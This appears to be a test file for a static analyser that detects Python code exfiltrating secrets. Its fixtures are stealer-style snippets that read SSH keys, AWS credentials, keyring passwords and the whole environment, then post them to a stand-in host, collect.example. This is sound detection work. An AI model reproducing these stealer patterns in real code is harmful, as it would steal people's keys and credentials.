// Secrets followed to the network by the data-flow analysis from sources a stealer uses and a reader may miss:
// every file of a credential folder read through a listing (glob, os.walk, Path.glob), a cloud SDK's credentials,
// a typed or stored password, and pycurl's options. Each imitation is inert (reserved .example hosts).
import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { initAnalysis } from '../../src/analysis/api.ts';
import { analyzePythonFile } from '../../src/analysis/python-file.ts';
import type { Finding } from '../../src/model/result.ts';

before(() => initAnalysis());

function findings(source: string, path = 'demo/mod.py'): Finding[] {
  return analyzePythonFile(path, new TextEncoder().encode(source))[0].findings;
}
const exfiltration = (source: string) => findings(source).find((f) => f.rule === 'exfiltration');

test('every file of ~/.ssh read through glob.glob and posted, when called, is SSH keys sent (high)', () => {
  const found = exfiltration(
    [
      'import glob, os, requests',
      'def collect():',
      '    out = {}',
      '    for p in glob.glob(os.path.expanduser("~/.ssh/*")):',
      '        with open(p) as f:',
      '            out[p] = f.read()',
      '    requests.post("https://collect.example/k", json=out)',
    ].join('\n'),
  );
  assert.equal(found?.severity, 'high');
  assert.match(found!.message, /sends SSH keys to the network/);
  assert.equal(found!.destination?.host, 'collect.example');
});

test('os.walk over ~/.aws joined with each file name, and Path.glob of ~/.ssh, are credential folders read', () => {
  const walked = exfiltration(
    [
      'import os, requests',
      'def sync():',
      '    for root, _, files in os.walk(os.path.expanduser("~/.aws")):',
      '        for name in files:',
      '            requests.post("https://collect.example/a", files={"f": open(os.path.join(root, name), "rb")})',
    ].join('\n'),
  );
  assert.match(walked?.message ?? '', /sends AWS credentials/);
  const globbed = exfiltration(
    [
      'import pathlib, urllib.request',
      'def share():',
      '    data = b"".join(p.read_bytes() for p in (pathlib.Path.home() / ".ssh").glob("id_*"))',
      '    urllib.request.urlopen("https://collect.example/s", data=data)',
    ].join('\n'),
  );
  assert.match(globbed?.message ?? '', /sends SSH keys/);
  assert.equal(globbed?.severity, 'high');
});

test('files listed from a folder of no credentials, read and posted, are no credential sent', () => {
  const found = exfiltration(
    [
      'import glob, os, requests',
      'def upload():',
      '    for p in glob.glob(os.path.expanduser("~/reports/*.csv")):',
      '        requests.post("https://upload.example/r", data=open(p).read())',
    ].join('\n'),
  );
  assert.equal(found, undefined);
});

test("AWS credentials from boto3 sent to another owner's host are a stolen key; to AWS, when called, a client", () => {
  const stolen = exfiltration(
    [
      'import boto3, requests',
      'def sync():',
      '    creds = boto3.Session().get_credentials()',
      '    requests.post("https://collect.example/c", json={"a": creds.access_key, "s": creds.secret_key})',
    ].join('\n'),
  );
  assert.equal(stolen?.severity, 'high');
  assert.match(stolen!.message, /AWS credentials .*a host that is not AWS's/);
  const client = exfiltration(
    [
      'import boto3, requests',
      'def sign():',
      '    creds = boto3.session.Session().get_credentials()',
      '    requests.post("https://sts.amazonaws.com/", data={"k": creds.access_key})',
    ].join('\n'),
  );
  assert.equal(client?.severity, 'low');
});

test('a password typed at a prompt or kept in the keyring: a client logging in when called, a stealer on import', () => {
  const login = exfiltration(
    [
      'import getpass, requests',
      'def login():',
      '    requests.post("https://service.example/login", data={"pw": getpass.getpass()})',
    ].join('\n'),
  );
  assert.equal(login?.severity, 'low');
  assert.match(login!.message, /a password typed at a prompt/);
  const onImport = exfiltration(
    [
      'import keyring, requests',
      'pw = keyring.get_password("system", "user")',
      'requests.get("https://collect.example/k?p=" + str(pw))',
    ].join('\n'),
  );
  assert.equal(onImport?.severity, 'high');
  assert.match(onImport!.message, /a password from the system keyring/);
});

test('pycurl: the URL set with setopt is the destination, and the POSTFIELDS set on the object is what it sends', () => {
  const list = findings(
    [
      'import pycurl, os, json',
      'def send():',
      '    c = pycurl.Curl()',
      '    c.setopt(pycurl.URL, "https://collect.example/e")',
      '    c.setopt(c.POSTFIELDS, json.dumps(dict(os.environ)))',
      '    c.perform()',
    ].join('\n'),
  );
  assert.equal(list.find((f) => f.rule === 'egress-network-call')?.destination?.host, 'collect.example');
  const sent = list.find((f) => f.rule === 'exfiltration');
  assert.match(sent?.message ?? '', /sends the whole environment to the network \(https:\/\/collect\.example\/e\)/);
  assert.equal(sent?.severity, 'high');
});

test("the output of env and a process's /proc environ file are the whole environment, not the machine's identity", () => {
  const printed = exfiltration(
    [
      'import subprocess, requests',
      'def report():',
      '    env = subprocess.check_output(["env"]).decode()',
      '    requests.post("https://collect.example/e", data=env)',
    ].join('\n'),
  );
  assert.equal(printed?.severity, 'high');
  assert.match(printed!.message, /the whole environment \(the output of env\)/);
  const proc = exfiltration(
    [
      'import requests',
      'def report():',
      '    requests.post("https://collect.example/e", data=open("/proc/self/environ", "rb").read())',
    ].join('\n'),
  );
  assert.equal(proc?.severity, 'high');
  assert.match(proc!.message, /the environment of a process/);
  const identity = exfiltration(
    [
      'import subprocess, requests',
      'def report():',
      '    requests.post("https://collect.example/w", data=subprocess.check_output("whoami"))',
    ].join('\n'),
  );
  assert.equal(identity?.severity, 'low', "the user's name sent when called to a named host is a client's telemetry");
});

test('secrets written to a file or archive and that file uploaded are the secrets sent (the file channel)', () => {
  const zipped = exfiltration(
    [
      'import os, requests, zipfile',
      'def pack():',
      '    z = zipfile.ZipFile("/tmp/x.zip", "w")',
      '    for root, _, files in os.walk(os.path.expanduser("~/.ssh")):',
      '        for n in files:',
      '            z.write(os.path.join(root, n))',
      '    z.close()',
      '    requests.post("https://collect.example/z", files={"z": open("/tmp/x.zip", "rb")})',
    ].join('\n'),
  );
  assert.match(zipped?.message ?? '', /sends SSH keys/);
  assert.ok(zipped?.flow?.some((step) => /read back from \/tmp\/x\.zip/.test(step.note)));
  const tarred = exfiltration(
    [
      'import tarfile, os, requests',
      'def backup():',
      '    with tarfile.open("/tmp/k.tgz", "w:gz") as t:',
      '        t.add(os.path.expanduser("~/.aws"))',
      '    requests.post("https://collect.example/b", data=open("/tmp/k.tgz", "rb").read())',
    ].join('\n'),
  );
  assert.match(tarred?.message ?? '', /sends AWS credentials/, 'a credential folder added whole to an archive');
  const dumped = exfiltration(
    [
      'import os, json, requests',
      'def dump():',
      '    with open("/tmp/e.json", "w") as f:',
      '        json.dump(dict(os.environ), f)',
      '    requests.put("https://collect.example/e", data=open("/tmp/e.json").read())',
    ].join('\n'),
  );
  assert.match(dumped?.message ?? '', /sends the whole environment/);
  const respelt = exfiltration(
    [
      'import os, json, requests',
      'def dump():',
      '    with open(os.getenv("TEMP") + "\\\\e.json", "w") as f:',
      '        json.dump(dict(os.environ), f)',
      '    requests.put("https://collect.example/e", data=open(os.path.join(os.getenv("TEMP"), "e.json")).read())',
    ].join('\n'),
  );
  assert.match(respelt?.message ?? '', /sends the whole environment/, 'one file spelt with \\ and with os.path.join');
});

test('a report file written from data of no secret and uploaded is no exfiltration', () => {
  const found = exfiltration(
    [
      'import requests',
      'def upload(rows):',
      '    with open("/tmp/report.csv", "w") as f:',
      '        f.write("\\n".join(rows))',
      '    requests.post("https://upload.example/r", data=open("/tmp/report.csv", "rb"))',
    ].join('\n'),
  );
  assert.equal(found, undefined);
});

test('a secret handed to a method of an instance made at module level is followed into the method', () => {
  const source = [
    'import os, urllib.request',
    'class Client:',
    '    def push(self, payload):',
    '        urllib.request.urlopen("https://metrics.example/c", payload.encode())',
    'c = Client()',
    'c.push(os.environ["AWS_SECRET_ACCESS_KEY"])',
  ].join('\n');
  const found = findings(source).find((f) => f.rule === 'exfiltration');
  assert.equal(found?.severity, 'high');
  assert.equal(found?.trigger, 'import');
});

test('an entry of os.scandir over a credential folder is a file of that folder: its .path read and uploaded', () => {
  const source = [
    'import os, requests',
    'def grab(url):',
    '    for e in os.scandir(os.path.join(os.environ["HOME"], ".aws")):',
    '        with open(e.path, "rb") as f:',
    '            requests.post(url, files={"f": f})',
  ].join('\n');
  const found = findings(source).find((f) => f.rule === 'exfiltration');
  assert.match(found?.message ?? '', /AWS credentials/);
});
